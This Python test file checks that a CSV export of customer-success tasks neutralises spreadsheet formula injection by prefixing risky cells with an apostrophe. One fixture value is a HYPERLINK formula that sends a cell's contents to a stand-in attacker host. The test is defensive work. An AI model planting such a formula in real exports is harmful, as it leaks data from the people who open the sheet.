"""The CS task export is a CSV for spreadsheets: a customer name written as a formula stays inert text."""

from __future__ import annotations

from datetime import date, datetime

import pandas as pd

from proactive_ml.outreach.tasks_csv import export_tasks

LINK = '=HYPERLINK("http://evil.example/steal?c="&A2,"Open account")'


def test_export_quotes_formula_names_and_keeps_numbers(wh, tmp_path):
    wh.insert_frame(
        "customers",
        pd.DataFrame(
            {
                "customer_id": ["c1", "c2"],
                "name": [LINK, "-Ann"],
                "plan": ["pro", "team"],
                "monthly_revenue": [99.0, 29.0],
            }
        ),
    )
    now = datetime(2026, 3, 1, 14)
    wh.insert_frame(
        "cs_tasks",
        pd.DataFrame(
            {
                "task_id": ["t1", "t2"],
                "as_of": [date(2026, 3, 1)] * 2,
                "customer_id": ["c1", "c2"],
                "playbook": ["high_value_cs_task"] * 2,
                "priority": [1, 1],
                "expected_value": [-3.5, 120.0],
                "score": [0.4, 0.3],
                "reasons": ["usage_drop", "@tickets"],
                "guidance": ["+ call them", "Call"],
                "state": ["open", "open"],
                "created_at": [now, now],
            }
        ),
    )
    path = tmp_path / "tasks.csv"
    assert export_tasks(wh, str(path)) == 2
    back = pd.read_csv(path).set_index("task_id")
    assert back.loc["t1", "contact_name"] == "'" + LINK
    assert back.loc["t2", "contact_name"] == "'-Ann"
    assert back.loc["t2", "reasons"] == "'@tickets"
    assert back.loc["t1", "guidance"] == "'+ call them"
    assert back.loc["t1", "expected_value"] == -3.5  # numbers stay numbers
    assert back.loc["t1", "monthly_revenue"] == 99.0
